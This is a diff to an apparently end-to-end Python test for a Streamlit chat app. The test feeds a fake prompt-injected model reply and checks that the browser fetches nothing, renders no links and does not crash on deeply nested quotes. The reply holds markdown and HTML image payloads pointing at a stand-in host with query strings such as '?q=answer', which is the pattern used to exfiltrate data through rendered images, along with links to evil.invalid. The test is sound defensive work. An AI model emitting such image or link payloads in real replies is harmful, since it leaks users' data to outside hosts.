@@ -110,7 +110,8 @@ LEAK = "http://leak.invalid/pixel.png"
 
 
 def test_injected_image_never_loads_and_deep_quote_renders(streamlit_app, page, tmp_path, llm_server) -> None:
-    """Issue #17: a prompt-injected reply may not make the reviewer's browser fetch anything, nor crash it."""
+    """Issue #17: a prompt-injected reply may not make the reviewer's browser fetch anything, nor crash it;
+    issue 24: nor show a link (links read as plain text, as in every other model text)."""
     url = f"sqlite:///{tmp_path / 'coach.db'}"
     engine = init_db(url)
     with session_scope(engine) as s:
@@ -128,7 +129,8 @@ def test_injected_image_never_loads_and_deep_quote_renders(streamlit_app, page, 
     engine.dispose()
     reply = (
         f"Summary ![secret]({LEAK}?q=answer) and ![ref][r] **bold**\n\n[r]: {LEAK}?ref\n\n"
-        f"<img src='{LEAK}?html'>\n\n" + "> " * 3000 + "deep quote end"
+        f"<img src='{LEAK}?html'>\n\n[click here](https://evil.invalid/a), https://evil.invalid/b, "
+        "www.evil.invalid and me@evil.invalid\n\n" + "> " * 3000 + "deep quote end"
     )
     llm_server.responder = lambda body: fake.stream([reply], delay=0.0)
     server = streamlit_app(url, OPENAI_BASE_URL=llm_server.base_url, OPENAI_API_KEY="test")
@@ -150,6 +152,8 @@ def test_injected_image_never_loads_and_deep_quote_renders(streamlit_app, page, 
     assert [u for u in requested if "leak.invalid" in u] == []
     assert crashed == []
     assert page.locator("[data-testid='stChatMessage'] img[src*='leak']").count() == 0
+    assert page.locator("[data-testid='stChatMessage'] a").count() == 0
+    assert page.get_by_text("click here").count() == 1  # the link's text is still there, as text
     assert page.locator("[data-testid='stChatMessage'] strong", has_text="bold").count() >= 1
     depth = page.evaluate(
         """() => Math.max(0, ...[...document.querySelectorAll('[data-testid="stChatMessage"] blockquote')]
